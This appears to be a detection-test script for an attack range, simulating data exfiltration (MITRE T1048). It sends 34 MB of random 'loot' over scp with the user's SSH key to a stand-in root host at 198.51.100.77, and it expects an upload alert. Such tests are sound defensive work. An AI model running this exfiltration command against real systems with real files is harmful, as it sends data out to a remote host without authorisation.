# SPDX-License-Identifier: Apache-2.0
# what: 34 MB sent out with scp
# technique: T1048
# from: ws1
# to: inet
# account: -
# outcome: success
# must: alert upload
. "$RANGE_HERE/item.sh"
head -c 34000000 /dev/urandom >"$HOME/loot.bin"
scp -q -F "$HOME/.ssh/config" -i "$HOME/.ssh/id_ed25519" "$HOME/loot.bin" root@198.51.100.77:/tmp/vigie-loot
ok=$?; rm -f /tmp/vigie-loot; [ $ok = 0 ]
ok=$?
rm "$HOME/loot.bin"
exit $ok
